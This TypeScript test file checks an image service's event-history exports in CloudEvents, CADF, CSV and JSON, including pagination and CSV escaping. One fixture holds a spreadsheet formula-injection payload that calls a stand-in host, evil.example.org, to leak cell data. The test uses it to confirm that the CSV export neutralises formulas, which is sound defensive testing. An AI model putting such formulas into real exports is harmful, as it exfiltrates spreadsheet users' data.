import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { eventually, type Answer, type Client, type EventJson } from '../services/client.js';
import { startCloud, type Cloud } from '../services/cloud.js';

/** A property whose name a spreadsheet would take for a formula. */
const formula = '=HYPERLINK("http://evil.example.org?"&A1,"open")';
let cloud: Cloud;
let alice: Client;
let id: string;
/** as the native format has them, oldest first */
let events: EventJson[];

beforeAll(async () => {
  ({ cloud, alice } = await startCloud());
  ({ id } = await alice.createImage({ name: 'a "quoted", name' }));
  const path = `/${formula.replaceAll('~', '~0').replaceAll('/', '~1')}`;
  expect(await alice.patch(id, [{ op: 'add', path, value: 'two\nlines' }])).toMatchObject({ status: 200 });
  await alice.upload(id, Buffer.from('data'));
  await alice.post(`/v2/images/${id}/members`, { member: 'beta' });
  events = await alice.history(id);
  const search = async () => (await alice.get('/vitrine/v1/events')).json as { position: number };
  await eventually(search, ({ position }) => position >= events.at(-1)!.position, 'the searchable history');
});
afterAll(() => cloud.remove());

const paths = () => [`/vitrine/v1/images/${id}/history?order=asc`, `/vitrine/v1/events?order=asc&image=${id}`];
const of = {
  cloudevents: { accept: 'application/cloudevents-batch+json', read: read((one) => Number(one.id)) },
  cadf: { accept: 'application/cadf+json', read: read((one) => attached(one).position) },
  csv: { accept: 'text/csv', read: (answer: Answer) => rows(answer).map(({ position }) => Number(position)) },
  json: {
    accept: 'application/json',
    read: ({ json }: Answer) => (json.events as EventJson[]).map(({ position }) => position),
  },
};

function read(positionOf: (one: Readonly<Record<string, unknown>>) => number) {
  return ({ text }: Answer) => (JSON.parse(text) as Readonly<Record<string, unknown>>[]).map(positionOf);
}
const attached = ({ attachments }: Readonly<Record<string, unknown>>) =>
  (attachments as { content: EventJson }[])[0]!.content;
const rows = ({ text }: Answer) => parse<Record<string, string>>(text, { columns: true });

describe.each(Object.keys(of) as (keyof typeof of)[])('events as %s', (format) => {
  const { accept, read: positionsOf } = of[format];

  it('are given to who accepts it, and to who names it whatever he accepts', async () => {
    for (const path of paths()) {
      const accepted = await alice.get(path, { accept });
      expect(accepted).toMatchObject({ status: 200 });
      expect(accepted.headers).toMatchObject({ vary: 'accept', 'content-type': expect.stringContaining(accept) });
      expect(Number(accepted.headers['vitrine-position'])).toBeGreaterThanOrEqual(events.at(-1)!.position);
      expect(positionsOf(accepted)).toEqual(events.map(({ position }) => position));
      expect((await alice.get(`${path}&format=${format}`, { accept: 'text/html' })).text).toBe(accepted.text);
    }
  });

  it('are read page by page along the Link header, each event once', async () => {
    for (const path of paths()) {
      const paged: number[] = [];
      for (let next: string | undefined = `${path}&limit=2`; next;) {
        const page: Answer = await alice.get(next, { accept });
        expect(page).toMatchObject({ status: 200 });
        paged.push(...positionsOf(page));
        next = /^<(.*)>; rel="next"$/.exec(page.headers.link ?? '')?.[1];
      }
      expect(paged).toEqual(events.map(({ position }) => position));
    }
  });
});

it('is the native one for whoever accepts anything, or nothing that there is', async () => {
  for (const accept of ['*/*', 'text/html', 'application/xml;q=0.9', '']) {
    const { headers, json } = await alice.get(paths()[0]!, { accept });
    expect(headers['content-type']).toMatch(/^application\/json/);
    expect(json.image_id).toBe(id);
  }
  expect(await alice.get(`${paths()[0]!}&format=xml`)).toMatchObject({ status: 400 });
});

it('CloudEvents have what webhooks are sent', async () => {
  const [, told] = JSON.parse((await alice.get(`${paths()[0]!}&format=cloudevents`)).text) as unknown[];
  expect(told).toEqual({
    ...{ specversion: '1.0', source: '/vitrine/v1/events', type: 'vitrine.ImagePropertiesChanged' },
    ...{ id: String(events[1]!.position), subject: `images/${id}`, time: events[1]!.time },
    ...{ datacontenttype: 'application/json', partitionkey: `image-${id}`, requestid: events[1]!.request_id },
    sequence: String(events[1]!.position).padStart(19, '0'),
    data: events[1],
  });
});

it('CADF says who did what, and keeps the rest', async () => {
  const [created] = JSON.parse((await alice.get(`${paths()[1]!}&format=cadf`)).text) as Readonly<
    Record<string, unknown>
  >[];
  expect(created).toMatchObject({
    ...{ eventType: 'activity', action: 'create', outcome: 'success', target: { id } },
    initiator: { id: alice.userId, project_id: alice.projectId, request_id: events[0]!.request_id },
    id: expect.stringMatching(/^[0-9a-f-]{36}$/),
  });
  expect(attached(created!)).toEqual(events[0]);
});

it('CSV is RFC 4180, and nothing in it is a formula', async () => {
  const answer = await alice.get(`${paths()[1]!}&format=csv`);
  expect(answer.text.split('\r\n')[0]).toBe(
    'position,time,type,image_id,stream,version,user_id,project_id,roles,request_id,correlation_id,summary,data,hash',
  );
  expect(answer.text.replaceAll('\r\n', '')).not.toContain('\r');
  const [created, changed] = rows(answer);
  expect(created).toMatchObject({ type: 'ImageCreated', user_id: alice.userId, roles: 'member reader', version: '1' });
  expect(created!.summary).toContain('name: – → a "quoted", name');
  expect(JSON.parse(changed!.data!)).toEqual(events[1]!.data);
  expect(changed!.summary).toBe(`'${formula}: – → two\nlines`);
  const cells = rows(answer).flatMap((row) => Object.values(row));
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
});
